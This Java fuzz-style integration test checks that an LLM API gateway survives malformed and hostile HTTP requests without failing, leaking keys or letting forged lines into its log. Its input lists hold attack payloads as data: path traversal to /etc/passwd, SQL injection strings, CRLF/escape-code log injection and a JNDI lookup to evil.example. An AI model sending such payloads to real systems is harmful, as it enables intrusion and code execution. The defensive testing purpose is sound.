package dev.signalbox.it;

import static java.nio.charset.StandardCharsets.ISO_8859_1;
import static java.nio.charset.StandardCharsets.UTF_8;
import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import dev.signalbox.it.RawCaller.Answer;
import io.restassured.response.Response;
import java.io.IOException;
import java.time.Duration;
import java.util.ArrayList;
import java.util.Base64;
import java.util.List;
import java.util.Queue;
import java.util.Random;
import java.util.concurrent.ConcurrentHashMap;
import java.util.concurrent.ConcurrentLinkedQueue;
import java.util.concurrent.Executors;
import java.util.concurrent.atomic.AtomicInteger;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;
import org.junit.jupiter.api.condition.DisabledIfSystemProperty;
import org.junit.jupiter.api.extension.RegisterExtension;

/**
 * Requests of every kind, spoiled in every way, with keys, budgets, limits, the admin API and a store: the gateway never fails, tells
 * no secret, lets nobody write lines into its log, and is none the worse for it.
 */
@Timeout(240)
@DisabledIfSystemProperty(
        named = "signalbox.executable",
        matches = ".+",
        disabledReason = "the embedded store needs the JVM")
class HostileIT {

    private static final long SEED = Long.getLong("signalbox.fuzz.seed", 20_261_121);
    private static final int REQUESTS = Integer.getInteger("signalbox.fuzz.hostile", 5_000);
    private static final int WORKERS = 8;
    private static final int HANG = 20_000;

    private static final String ADMIN = "canary-admin-key-0123456789";
    private static final String KEY = "sk-canary-caller-0123456789";
    private static final String POOR = "sk-canary-poor-0123456789";
    private static final String VENDORS = "key-of-";

    /** What somebody would like to see in a log: a line of their own, colours, a cleared screen. */
    private static final String INJECTED =
            "x\r\n2026-01-01 00:00:00,000 INFO  [forged] \u001b[31mowned\u001b[2J\u009b31m\u0000\u0085\u2028";

    private static final FakeVendor VENDOR = new FakeVendor().answers(EveryVendor.sound());

    @RegisterExtension
    static final Gateway GATEWAY = EveryVendor.behind(configured(Gateway.bare()), VENDOR);

    private static Gateway configured(Gateway gateway) {
        gateway.and("signalbox.store.kind", "embedded")
                .and(
                        "signalbox.store.directory",
                        gateway.directory().resolve("data").toString())
                .and("signalbox.auth.admin-key", ADMIN)
                .and("signalbox.auth.keys.ci.key", KEY)
                .and("signalbox.auth.keys.ci.team", "blue")
                .and("signalbox.auth.keys.ci.budget.limit-usd", "1000")
                .and("signalbox.auth.keys.ci.budget.window", "day")
                .and("signalbox.auth.keys.ci.rate-limit.requests-per-minute", "10000000")
                .and("signalbox.auth.keys.poor.key", POOR)
                .and("signalbox.auth.keys.poor.models[0]", "m")
                .and("signalbox.auth.keys.poor.controls[0]", "tags")
                .and("signalbox.auth.keys.poor.rate-limit.requests-per-minute", "2")
                .and("signalbox.auth.teams.blue.budget.limit-usd", "1000")
                .and("signalbox.auth.teams.blue.budget.window", "month")
                .and("signalbox.models.m.deployments[0].provider", "simulator")
                .and("signalbox.models.m.pricing.input", "1")
                .and("signalbox.models.m.pricing.output", "1")
                .and("signalbox.tags[0]", "env")
                .and("signalbox.max-body-size", "1M")
                .environment("SIGNALBOX_ENCRYPTION_KEY", Base64.getEncoder().encodeToString(new byte[32]))
                .heap("256m");
        return gateway;
    }

    private static final List<String> METHODS = List.of(
            "GET",
            "GET",
            "GET",
            "POST",
            "POST",
            "POST",
            "POST",
            "PATCH",
            "PATCH",
            "DELETE",
            "HEAD",
            "PUT",
            "OPTIONS",
            "TRACE",
            "CONNECT",
            "PROPFIND");

    private static final List<String> PATHS = List.of(
            "/v1/models",
            "/v1/models/NAME",
            "/v1/chat/completions",
            "/v1/responses",
            "/v1/responses/NAME",
            "/v1/responses/NAME/input_items",
            "/v1/completions",
            "/v1/embeddings",
            "/v1/moderations",
            "/v1/messages",
            "/v1/messages/count_tokens",
            "/v1beta/models",
            "/v1beta/models/NAME",
            "/v1beta/models/NAME:generateContent",
            "/v1beta/models/NAME:streamGenerateContent?alt=sse",
            "/v1beta/models/NAME:countTokens",
            "/admin/v1/keys",
            "/admin/v1/keys",
            "/admin/v1/keys/NAME",
            "/admin/v1/keys/NAME/rotate",
            "/admin/v1/teams",
            "/admin/v1/teams",
            "/admin/v1/teams/NAME",
            "/admin/v1/providers",
            "/admin/v1/providers",
            "/admin/v1/providers/NAME",
            "/admin/v1/providers/NAME/drain",
            "/admin/v1/providers/NAME/fault",
            "/admin/v1/providers/NAME/resume",
            "/admin/v1/models",
            "/admin/v1/models",
            "/admin/v1/models/NAME",
            "/admin/v1/requests",
            "/admin/v1/requests/NAME",
            "/admin/v1/usage",
            "/admin/v1/reports/health",
            "/admin/v1/reports/routing",
            "/admin/v1/explain",
            "/admin/v1/config",
            "/admin/v1/catalogue",
            "/admin/v1/nothing",
            "/nothing/NAME",
            "/q/metrics",
            "/q/health",
            "/q/health/ready",
            "/console",
            "/");

    private static final List<String> NAMES = List.of(
            "m",
            "ci",
            "blue",
            "x",
            "a%2Fb",
            "..%2f..%2fetc%2fpasswd",
            "%2e%2e",
            "..",
            ".",
            "%00",
            "a%00b",
            "%0d%0aX:y",
            "%1b%5b31m",
            "%c2%9b31m",
            "%ff%fe",
            "%ed%a0%80",
            "%F0%9F%92%A9",
            "a;b=c",
            "a:b",
            "a%25zz",
            "%zz",
            "key_0",
            "sim%ulator",
            "'%20or%20'1'='1",
            "%22",
            "%5c",
            "%7bx%7d",
            "%E2%80%AE",
            "a+b",
            "%20",
            "LONG");

    private static final List<String> QUERIES = List.of(
            "limit=1",
            "limit=-1",
            "limit=99999999999999999999",
            "limit=",
            "limit=%00",
            "cursor=x",
            "cursor=AAAA",
            "cursor=MjAyNi0wMS0wMVQwMDowMDowMFogAA",
            "cursor=%00",
            "model=%00",
            "model=a%00b",
            "provider=%ff",
            "key=%00",
            "key=x",
            "status=200",
            "status=x",
            "from=2026-01-01T00:00:00Z",
            "from=%2B999999999-12-31T23:59:59Z",
            "from=-999999999-01-01T00:00:00Z",
            "to=0000-01-01T00:00:00Z",
            "from=x&to=%00",
            "group_by=provider,model,key",
            "group_by=tag:env",
            "group_by=tag:%00",
            "group_by=%1b",
            "group_by=day&group_by=hour",
            "alt=sse",
            "a=b&a=b&&&=",
            "model=LONG",
            "provider='%3B%20drop%20table%20team%3B--");

    private static final List<String> HEADERS = List.of(
            "x-signalbox-tags: env=live",
            "x-signalbox-tags: env=\u001b[31m",
            "x-signalbox-tags: env=\u009b31m,b=\u00e4",
            "x-signalbox-tags: LONG=1",
            "x-signalbox-session: \u0085x",
            "x-signalbox-timeout: 99999999999999999999s",
            "x-signalbox-timeout: 50ms",
            "x-signalbox-max-cost: 1e999999999",
            "x-signalbox-max-cost: 0.000000001",
            "x-signalbox-strategy: \u009b",
            "x-signalbox-strategy: cost",
            "x-signalbox-provider: ../x",
            "x-signalbox-fallback: LONG",
            "x-signalbox-retries: 010",
            "x-signalbox-nothing: x",
            "x-signalbox-quality: high",
            "x-request-id: a\u009bb",
            "x-request-id: LONG",
            "traceparent: \u00ff",
            "traceparent: 00-0af7651916cd43dd8448eb211c80319c-b7ad6b7169203331-01",
            "tracestate: LONG",
            "anthropic-version: 2023-06-01",
            "anthropic-version: \u009b",
            "anthropic-beta: LONG",
            "x-goog-api-client: x",
            "accept: text/xml",
            "accept: ///",
            "accept: LONG",
            "accept: application/json;q=x",
            "accept-encoding: \u009b",
            "accept-language: LONG",
            "content-encoding: gzip",
            "content-encoding: br",
            "expect: 100-continue",
            "expect: nonsense",
            "range: bytes=0-0,1-1,2-2",
            "if-none-match: *",
            "origin: http://evil.example",
            "x-forwarded-for: 1.2.3.4, \u009b",
            "x-forwarded-host: evil.example",
            "forwarded: for=\"\u009b\"",
            "x-http-method-override: DELETE",
            "cookie: LONG",
            "cookie: a=\"; b=\u009b",
            "connection: close",
            "connection: x-signalbox-strategy",
            "upgrade: websocket",
            "upgrade: h2c",
            "te: trailers",
            "transfer-encoding: identity",
            "content-length: 1",
            "host: evil.example",
            "user-agent: \u009b31mLONG",
            "referer: LONG",
            "x: ${jndi:ldap://evil.example/a}",
            "if-modified-since: x",
            "max-forwards: x");

    private static final List<String> TYPES = List.of(
            "application/json",
            "application/json",
            "application/json",
            "application/json",
            "application/json",
            "application/json",
            "text/plain",
            "///",
            "application/json;charset=nonsense",
            "multipart/form-data",
            "application/x-www-form-urlencoded",
            "\u009b",
            "*/*",
            "application/*");

    private static final List<String> BODIES = List.of(
            "{\"name\":\"NEW\",\"team\":\"blue\",\"models\":[\"m\"],\"providers\":[\"simulator\"],\"controls\":[\"tags\"],\"disclose\":[\"cost\"],"
                    + "\"budget\":{\"limit_usd\":5,\"window\":\"day\"},\"rate_limit\":{\"requests_per_minute\":5,\"tokens_per_minute\":5,\"concurrent\":5},"
                    + "\"expires_at\":\"2099-01-01T00:00:00Z\",\"tags\":{\"env\":\"live\"}}",
            "{\"name\":\"NEW\",\"budget\":{\"limit_usd\":0.5,\"window\":\"total\"},\"tags\":{\"INJECTED\":\"INJECTED\"}}",
            "{\"name\":\"NEW\",\"kind\":\"simulator\",\"reply\":\"INJECTED\",\"weight\":2,\"quality\":\"high\",\"timeout\":\"5s\",\"headers\":{\"x\":\"INJECTED\"},\"api-keys\":[\"key-of-nobody\"]}",
            "{\"name\":\"NEW\",\"kind\":\"openai-compatible\",\"base-url\":\"http://127.0.0.1:1/v1\",\"api-keys\":[\"key-of-nobody\"],\"defaults\":{\"temperature\":0.1},\"health\":{\"interval\":\"1h\"}}",
            "{\"name\":\"NEW\",\"deployments\":[{\"provider\":\"simulator\",\"model\":\"INJECTED\",\"weight\":3}],\"aliases\":[\"INJECTED\"],\"strategy\":\"cost\",\"fallbacks\":[\"m\"],"
                    + "\"pricing\":{\"input\":1,\"output\":2},\"context-window\":1000,\"resume-streams\":true,\"last-resort\":\"INJECTED\"}",
            "{\"failure\":\"500\",\"rate\":0.5,\"latency\":\"1ms\",\"for\":\"1ms\"}",
            "{\"model\":\"MODEL\",\"stream\":true,\"user\":\"INJECTED\",\"messages\":[{\"role\":\"user\",\"content\":\"INJECTED\"}],\"max_tokens\":20}",
            "{\"model\":\"MODEL\",\"user\":\"INJECTED\",\"messages\":[{\"role\":\"user\",\"content\":\"hi\"}],\"max_tokens\":20}",
            "{\"model\":\"INJECTED\",\"metadata\":{\"user_id\":\"INJECTED\"},\"messages\":[{\"role\":\"user\",\"content\":\"hi\"}],\"max_tokens\":20}",
            "{\"model\":\"MODEL\",\"input\":\"INJECTED\",\"metadata\":{\"a\":\"INJECTED\"},\"previous_response_id\":\"INJECTED\"}",
            "{\"contents\":[{\"role\":\"user\",\"parts\":[{\"text\":\"INJECTED\"}]}]}",
            "{\"model\":\"MODEL\",\"prompt\":\"a\",\"input\":[\"a\"]}");

    private final Queue<String> wrong = new ConcurrentLinkedQueue<>();
    private final ConcurrentHashMap<Integer, AtomicInteger> statuses = new ConcurrentHashMap<>();

    @Test
    void nothingThatAnybodySendsDoesAnyHarm() throws Exception {
        Await.until(
                "the store is there",
                Duration.ofSeconds(30),
                () -> GATEWAY.request().get("/q/health/ready").asString().contains("\"keys\": \"followed\""));
        var next = new AtomicInteger();
        try (var workers = Executors.newFixedThreadPool(WORKERS)) {
            for (int i = 0; i < WORKERS; i++) {
                workers.execute(() -> {
                    for (int n = next.getAndIncrement();
                            n < REQUESTS && wrong.size() < 15;
                            n = next.getAndIncrement()) {
                        one(n);
                    }
                });
            }
        }

        assertThat(wrong).isEmpty();
        assertThat(statuses.keySet()).contains(200, 201, 400, 401, 403, 404, 405, 409, 411, 413, 414, 415, 431);
        Response answer = GATEWAY.ask("m", "authorization", "Bearer " + KEY);
        assertThat(answer.statusCode()).as(answer.asString()).isEqualTo(200);
        JsonNode row = GATEWAY.row(answer.header("x-signalbox-request-id"), ADMIN);
        assertThat(row.path("status").asInt()).isEqualTo(200);
        assertThat(GATEWAY.request().get("/q/health/ready").statusCode()).isEqualTo(200);
        Await.until("nobody is inside any more", () -> GATEWAY.metrics().contains("signalbox_active_requests 0.0"));
        Await.until("every row is in the store", () -> GATEWAY.metrics().contains("signalbox_ledger_lag 0.0"));

        String log = GATEWAY.log();
        assertThat(log).doesNotContain("canary", VENDORS, "[forged]", "failed inside", "Exception", " refused the row");
        assertThat(log.chars()
                        .filter(c -> c != '\n' && c != '\t' && Character.isISOControl(c))
                        .count())
                .as("control characters in the log")
                .isZero();
        assertThat(log.lines().filter(line -> line.contains(" ERROR ") && !line.contains("Hex dump")))
                .isEmpty();
        assertThat(GATEWAY.metrics()).doesNotContain("canary", "forged", VENDORS);
        String all = GATEWAY.request()
                .header("authorization", "Bearer " + ADMIN)
                .get("/admin/v1/config")
                .asString();
        assertThat(all).doesNotContain("canary", VENDORS);
    }

    private void one(int number) {
        var random = new Random(SEED + number * 7_919L);
        String method = METHODS.get(random.nextInt(METHODS.size()));
        Request made = request(random, method);
        byte[] request = made.bytes();
        String told = "#" + number + ": ";
        try (var caller = new RawCaller(GATEWAY)) {
            caller.send(new String(request, ISO_8859_1));
            Answer answer = caller.answer(made.isSpoiled() ? 2_000 : HANG, method.equals("HEAD"));
            String problem = problem(answer, made, method, caller);
            if (answer != null) {
                statuses.computeIfAbsent(answer.status(), _ -> new AtomicInteger())
                        .incrementAndGet();
            }
            if (problem != null) {
                wrong.add(
                        told + problem + "\n  asked: " + cut(new String(request, ISO_8859_1)) + "\n  said: " + answer);
            }
        } catch (IOException | RuntimeException | AssertionError e) {
            wrong.add(told + e + "\n  asked: " + cut(new String(request, ISO_8859_1)));
        }
    }

    private static String cut(String text) {
        return text.length() > 1_500 ? text.substring(0, 1_500) + "..." : text;
    }

    private static String problem(Answer answer, Request made, String method, RawCaller caller) {
        if (answer == null) {
            // a spoiled head may promise a longer body
            return made.isSpoiled() || caller.isHungUpOnWithin(HANG) ? null : "no answer, and no end";
        }
        if (answer.status() >= 500) {
            return "the gateway failed";
        }
        String all = answer.head() + answer.body();
        if (all.contains("canary") || all.contains(VENDORS)) {
            return "it tells a secret";
        }
        if (!made.isOfQuarkus()
                && answer.head().chars().anyMatch(c -> c != '\r' && c != '\n' && (c < 0x20 || c > 0x7E))) {
            return "something of a caller's in the head of the answer";
        }
        if (answer.status() < 400 || method.equals("HEAD")) {
            return null;
        }
        if (!answer.isJson()) {
            return made.isOfQuarkus() ? null : "no JSON";
        }
        JsonNode json = Shapes.json(answer.body());
        JsonNode error = json.isArray() ? json.path(0).path("error") : json.path("error");
        return error.path("message").asText().isBlank() ? "no error in any shape" : null;
    }

    /**
     * What is sent.
     *
     * @param isOfQuarkus asks for metrics or health, which are not answered by the gateway's own code
     * @param isSpoiled not even its head is sound
     */
    private record Request(byte[] bytes, boolean isOfQuarkus, boolean isSpoiled) {}

    private static Request request(Random random, String method) {
        String path = filled(random, PATHS.get(random.nextInt(PATHS.size())));
        if (random.nextInt(3) == 0) {
            path += (path.contains("?") ? "&" : "?") + filled(random, QUERIES.get(random.nextInt(QUERIES.size())));
        }
        boolean isAdmin = path.startsWith("/admin");
        List<String> lines = new ArrayList<>();
        lines.add(method + " " + path + (random.nextInt(40) == 0 ? " HTTP/1.0" : " HTTP/1.1"));
        lines.add("host: localhost");
        String key = random.nextInt(5) == 0
                ? List.of("", POOR, POOR, POOR, KEY, ADMIN, "canary-wrong", "\u009b")
                        .get(random.nextInt(8))
                : isAdmin ? ADMIN : KEY;
        lines.add((random.nextInt(10) == 0 ? "x-api-key: " : "authorization: Bearer ") + key);
        lines.add("content-type: " + TYPES.get(random.nextInt(TYPES.size())));
        for (int i = random.nextInt(3); i > 0; i--) {
            lines.add(filled(random, HEADERS.get(random.nextInt(HEADERS.size()))));
        }
        String sample = filled(random, BODIES.get(random.nextInt(BODIES.size())));
        byte[] body = random.nextInt(4) == 0 ? sample.getBytes(UTF_8) : Spoil.request(random, sample);
        if (random.nextInt(60) == 0) {
            body = ("{\"name\":\"" + "x".repeat(1_100_000) + "\"}").getBytes(UTF_8);
        }
        boolean isChunked = random.nextInt(20) == 0;
        lines.add(isChunked ? "transfer-encoding: chunked" : "content-length: " + body.length);
        byte[] head = (String.join("\r\n", lines) + "\r\n\r\n").getBytes(ISO_8859_1);
        boolean isSpoiled = random.nextInt(12) == 0;
        if (isSpoiled) {
            head = Spoil.joined(Spoil.bytes(random, head), "\r\n\r\n".getBytes(ISO_8859_1));
        }
        byte[] all = isChunked
                ? Spoil.joined(
                        head,
                        (Integer.toHexString(body.length) + "\r\n").getBytes(ISO_8859_1),
                        body,
                        "\r\n0\r\n\r\n".getBytes(ISO_8859_1))
                : Spoil.joined(head, body);
        return new Request(all, path.startsWith("/q/"), isSpoiled);
    }

    private static String filled(Random random, String text) {
        String injected = Shapes.quoted(INJECTED);
        return text.replace(
                        "NAME",
                        random.nextInt(3) == 0 ? "n" + random.nextInt(20) : NAMES.get(random.nextInt(NAMES.size())))
                .replace("NEW", random.nextInt(4) == 0 ? "INJECTED" : "n" + random.nextInt(20))
                .replace("MODEL", EveryVendor.MODELS.get(random.nextInt(EveryVendor.MODELS.size())))
                .replace("INJECTED", injected.substring(1, injected.length() - 1))
                .replace("LONG", "l".repeat(random.nextInt(3) == 0 ? 40_000 : 3_000));
    }
}
